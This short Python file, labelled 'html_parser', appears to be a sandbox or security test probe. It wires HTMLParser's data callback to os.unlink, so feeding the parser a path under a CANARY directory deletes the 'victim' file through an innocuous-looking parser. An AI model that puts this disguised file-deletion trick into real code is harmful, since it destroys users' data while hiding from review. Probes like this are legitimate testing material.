"""html_parser."""
import os
V = CANARY + '/victim'
from html.parser import HTMLParser
class P(HTMLParser):
    handle_data = staticmethod(os.unlink)
P().feed(V + '<b>')
